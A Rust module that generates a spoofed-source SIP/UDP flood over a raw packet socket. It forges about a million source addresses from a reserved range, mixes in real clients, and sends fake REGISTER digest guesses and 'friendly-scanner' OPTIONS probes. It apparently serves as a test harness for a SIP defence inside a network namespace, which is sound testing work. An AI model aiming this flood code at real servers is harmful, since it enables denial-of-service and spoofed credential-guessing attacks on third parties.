//! A forged flood: a million sources that were never there, and among them those who are.
//!
//! Frames are put on the wire before the uplink, where no router minds their sources. Every source
//! has its turn before any has another one.

use std::{
    ffi::CString,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};

use crate::{datapath::Frame, namespace::Namespace};

/// 240.0.0.0/12, reserved: nobody's.
const FIRST_SOURCE: u32 = 0xf000_0000;
pub const SOURCES: u32 = 1 << 20;
pub const NETWORK: &str = "240.0.0.0/12";
/// Any odd number: goes through all sources, in no order that one sees.
const STRIDE: u32 = 0x9_e375;
/// One frame of so many comes in the name of somebody real; a prime, so that it is another one of
/// the million who goes without in each round.
const REAL_EVERY: u64 = 4099;
/// Frames of one system call.
const BATCH: usize = 64;
/// Stands in the messages where each has a number of its own.
const NUMBER: &str = "########";

const ETHERNET_LEN: usize = 14;
const IP_LEN: usize = 20;
const IP_CHECKSUM: usize = ETHERNET_LEN + 10;
const IP_SOURCE: usize = ETHERNET_LEN + 12;
const UDP: usize = ETHERNET_LEN + IP_LEN;
const UDP_CHECKSUM: usize = UDP + 6;

/// Whom to flood, how, and in whose names beside those of the million.
#[derive(Clone, Debug)]
pub struct Plan {
    pub target: SocketAddrV4,
    pub real: Vec<SocketAddrV4>,
    /// At most so many frames a second.
    pub per_second: u64,
}

/// A flood under way. Dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    shared: Arc<Shared>,
    started: Instant,
    thread: Option<JoinHandle<Result<()>>>,
}

#[derive(Debug, Default)]
struct Shared {
    stop: AtomicBool,
    sent: AtomicU64,
}

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    pub frames: u64,
    pub elapsed: Duration,
}

impl Sent {
    pub fn per_second(&self) -> u64 {
        (self.frames as f64 / self.elapsed.as_secs_f64()) as u64
    }

    pub fn of_each_source(&self) -> u64 {
        self.frames / u64::from(SOURCES)
    }
}

impl Flood {
    /// Starts it on an interface, towards the interface's other end, whose address is `towards`.
    pub fn start(
        namespace: &Namespace,
        interface: &str,
        towards: [u8; 6],
        plan: Plan,
    ) -> Result<Self> {
        let socket = namespace.run(|| open(interface))?;
        let shared = Arc::new(Shared::default());
        let thread = {
            let shared = Arc::clone(&shared);
            std::thread::spawn(move || send(&shared, &socket, towards, &plan))
        };
        Ok(Self { shared, started: Instant::now(), thread: Some(thread) })
    }

    pub fn so_far(&self) -> Sent {
        let frames = self.shared.sent.load(Ordering::Relaxed);
        Sent { frames, elapsed: self.started.elapsed() }
    }

    pub fn stop(mut self) -> Result<Sent> {
        self.shared.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("a flood that was stopped already")?;
        let sent = self.so_far();
        thread.join().map_err(|_| anyhow::anyhow!("the flood panicked"))??;
        Ok(sent)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.shared.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // What it has to say is said by `stop`.
            drop(thread.join());
        }
    }
}

/// A frame whose source and numbers are written anew for each sending.
#[derive(Clone)]
struct Template {
    bytes: Vec<u8>,
    numbers: Vec<usize>,
    /// Of the header's words without source and checksum.
    sum: u32,
}

impl Template {
    fn new(target: SocketAddrV4, towards: [u8; 6], message: &str) -> Self {
        let mut bytes = Frame::udp("192.0.2.1:5060", &target.to_string()).payload(message).bytes();
        bytes[..6].copy_from_slice(&towards);
        // Over IPv4 a datagram may be without a checksum (RFC 768).
        bytes[UDP_CHECKSUM..][..2].fill(0);
        let mark = NUMBER.as_bytes();
        let numbers = (0..bytes.len().saturating_sub(mark.len()))
            .filter(|&at| bytes[at..].starts_with(mark))
            .collect();
        bytes[IP_SOURCE..][..4].fill(0);
        bytes[IP_CHECKSUM..][..2].fill(0);
        let words = bytes[ETHERNET_LEN..][..IP_LEN].chunks(2);
        let sum = words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
        Self { bytes, numbers, sum }
    }

    fn stamp(&mut self, source: SocketAddrV4, number: u32) {
        let bytes = &mut self.bytes;
        bytes[IP_SOURCE..][..4].copy_from_slice(&source.ip().octets());
        let address = source.ip().to_bits();
        let sum = folded(self.sum + (address >> 16) + (address & 0xffff));
        bytes[IP_CHECKSUM..][..2].copy_from_slice(&sum.to_be_bytes());
        bytes[UDP..][..2].copy_from_slice(&source.port().to_be_bytes());
        let mut digits = [0; NUMBER.len()];
        for (digit, place) in digits.iter_mut().rev().enumerate() {
            *place = b"0123456789abcdef"[(number >> (4 * digit)) as usize & 15];
        }
        for &at in &self.numbers {
            bytes[at..][..NUMBER.len()].copy_from_slice(&digits);
        }
    }
}

/// The checksum of words that add up to `sum` (RFC 1071).
fn folded(sum: u32) -> u16 {
    let sum = (sum & 0xffff) + (sum >> 16);
    !((sum & 0xffff) as u16 + (sum >> 16) as u16)
}

/// Bad credentials on nonces that nobody gave out, requests without, and a scanner that says so.
fn templates(plan: &Plan, towards: [u8; 6]) -> Vec<Template> {
    let host = plan.target.ip();
    let request = |method: &str, agent: &str, headers: &str| {
        format!(
            "{method} sip:{host} SIP/2.0\r\n\
             Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK{NUMBER};rport\r\n\
             Max-Forwards: 70\r\n\
             From: <sip:1000@{host}>;tag={NUMBER}\r\n\
             To: <sip:1000@{host}>\r\n\
             Call-ID: {NUMBER}@192.0.2.1\r\n\
             CSeq: 1 {method}\r\n\
             Contact: <sip:1000@192.0.2.1>\r\n\
             {headers}User-Agent: {agent}\r\n\
             Content-Length: 0\r\n\r\n"
        )
    };
    let credentials = format!(
        "Authorization: Digest username=\"1000\", realm=\"{host}\", nonce=\"{NUMBER}{NUMBER}\", \
         uri=\"sip:{host}\", response=\"{NUMBER}{NUMBER}{NUMBER}{NUMBER}\", algorithm=MD5\r\n"
    );
    let phone = "Grandstream GXP1625 1.0.7.6";
    let guess = request("REGISTER", phone, &credentials);
    let ask = request("REGISTER", phone, "");
    let scan = request("OPTIONS", "friendly-scanner", "");
    [&guess, &scan, &guess, &ask].map(|text| Template::new(plan.target, towards, text)).to_vec()
}

fn send(shared: &Shared, socket: &OwnedFd, towards: [u8; 6], plan: &Plan) -> Result<()> {
    let kinds = templates(plan, towards);
    let mut frames: Vec<Template> = kinds.iter().cloned().cycle().take(BATCH).collect();
    let start = Instant::now();
    let mut number = 0u64;
    while !shared.stop.load(Ordering::Relaxed) {
        let due = start.elapsed().as_micros() as u64 * plan.per_second / 1_000_000;
        if number > due {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        // Another kind in each round, so that each source sends all of them.
        if number.is_multiple_of(u64::from(SOURCES)) {
            frames.rotate_left(1);
        }
        for frame in &mut frames {
            frame.stamp(source(plan, number), number as u32);
            number += 1;
        }
        shared.sent.fetch_add(send_batch(socket, &frames)?, Ordering::Relaxed);
    }
    Ok(())
}

/// Who sends the frame of that number.
fn source(plan: &Plan, number: u64) -> SocketAddrV4 {
    let nth = (number / REAL_EVERY) as usize;
    if number.is_multiple_of(REAL_EVERY) && !plan.real.is_empty() {
        return plan.real[nth % plan.real.len()];
    }
    let offset = (number as u32).wrapping_mul(STRIDE) & (SOURCES - 1);
    SocketAddrV4::new(Ipv4Addr::from(FIRST_SOURCE | offset), 1024 + (offset & 0x7fff) as u16)
}

fn send_batch(socket: &OwnedFd, frames: &[Template]) -> Result<u64> {
    let mut parts: Vec<libc::iovec> = frames
        .iter()
        .map(|frame| libc::iovec {
            iov_base: frame.bytes.as_ptr().cast_mut().cast(),
            iov_len: frame.bytes.len(),
        })
        .collect();
    let mut messages: Vec<libc::mmsghdr> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: all-zero is a valid mmsghdr.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    // SAFETY: the headers and what they point to live through the call, which only reads them.
    let sent = unsafe {
        libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), messages.len() as u32, 0)
    };
    if sent < 0 {
        let error = std::io::Error::last_os_error();
        // A full queue is what a flood may meet.
        let full = matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN));
        ensure!(full, "the flood cannot send: {error}");
    }
    Ok(u64::try_from(sent).unwrap_or(0))
}

/// A packet socket that sends on an interface and hears nothing.
fn open(interface: &str) -> Result<OwnedFd> {
    // SAFETY: a plain system call; the descriptor is checked and owned right after.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    ensure!(fd >= 0, "packet socket: {}", std::io::Error::last_os_error());
    // SAFETY: the descriptor is new and nobody else's.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let name = CString::new(interface).context("interface name")?;
    // SAFETY: all-zero is a valid sockaddr_ll.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    // SAFETY: `name` is a C string that lives through the call.
    address.sll_ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) } as i32;
    ensure!(address.sll_ifindex > 0, "no interface {interface}");
    let (length, bypass) = (size_of::<libc::sockaddr_ll>() as u32, 1i32);
    // SAFETY: both calls read values that live through them and whose lengths are their own.
    let done = unsafe {
        libc::bind(fd, (&raw const address).cast(), length) == 0
            && libc::setsockopt(
                fd,
                libc::SOL_PACKET,
                libc::PACKET_QDISC_BYPASS,
                (&raw const bypass).cast(),
                size_of::<i32>() as u32,
            ) == 0
    };
    ensure!(done, "packet socket on {interface}: {}", std::io::Error::last_os_error());
    Ok(socket)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::sip;

    fn plan() -> Plan {
        Plan {
            target: "192.0.2.11:5060".parse().unwrap(),
            real: vec!["203.0.113.7:21040".parse().unwrap()],
            per_second: 1,
        }
    }

    #[test]
    fn every_source_has_its_turn() {
        let sources: HashSet<SocketAddrV4> =
            (0..u64::from(SOURCES)).map(|number| source(&plan(), number)).collect();
        // Some turns go to those who are real.
        assert!(sources.len() as u64 >= u64::from(SOURCES) * (REAL_EVERY - 1) / REAL_EVERY);
        assert!(sources.contains(&plan().real[0]));
    }

    #[test]
    fn frames_are_whole_messages_from_whom_they_say() {
        for (number, mut template) in (7..).zip(templates(&plan(), [2; 6])) {
            let from = "240.1.2.3:4567".parse().unwrap();
            template.stamp(from, number);
            let packet = etherparse::SlicedPacket::from_ethernet(&template.bytes).unwrap();
            let Some(etherparse::NetSlice::Ipv4(ip)) = &packet.net else { panic!("no IPv4") };
            let header = ip.header().to_header();
            assert_eq!(header.header_checksum, header.calc_header_checksum());
            assert_eq!(Ipv4Addr::from(header.source), *from.ip());
            let Some(etherparse::TransportSlice::Udp(udp)) = &packet.transport else {
                panic!("no UDP")
            };
            assert_eq!(udp.source_port(), 4567);
            let message = sip::read(udp.payload()).unwrap();
            assert!(message.branch.ends_with(&format!("{number:08x}")), "{}", message.branch);
        }
    }
}
